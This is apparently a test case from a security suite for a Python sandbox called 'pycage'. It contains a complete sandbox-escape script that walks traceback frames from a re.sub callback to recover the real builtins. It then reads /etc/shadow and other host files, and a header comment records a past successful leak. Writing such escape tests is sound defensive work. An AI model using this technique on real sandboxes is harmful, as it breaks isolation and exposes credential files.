# attack: an exception raised in a callback that re.sub() calls: its traceback's
#   tb_frame.f_back is re's own frame, whose globals hold the real builtins; opens host
#   secrets with them
# expect: status in ok|error ; stdout lacks LEAKED
# escaped: stdout "route re\nLEAKED /etc/shadow 'root:*:'\n"
import re

found = {}


def callback(match):
    try:
        raise ValueError("walk")
    except ValueError as exc:
        frame = exc.__traceback__.tb_frame.f_back
        while frame is not None and "__builtins__" not in frame.f_globals:
            frame = frame.f_back
        if frame is not None:
            found["builtins"] = frame.f_globals["__builtins__"]
            found["module"] = frame.f_globals.get("__name__")
    return ""


re.sub("x", callback, "x")
real = found.get("builtins")
if real is None:
    print("no route")
    raise SystemExit(0)
real_open = real["open"] if isinstance(real, dict) else real.open
print("route", found["module"])
for path in ("/etc/shadow", "/etc/pycage/canary", "/run/pycage/pycage-fcgi.pid"):
    try:
        with real_open(path) as f:
            print("LEAKED", path, f.read(100))
    except BaseException as exc:
        print("refused", path, type(exc).__name__)
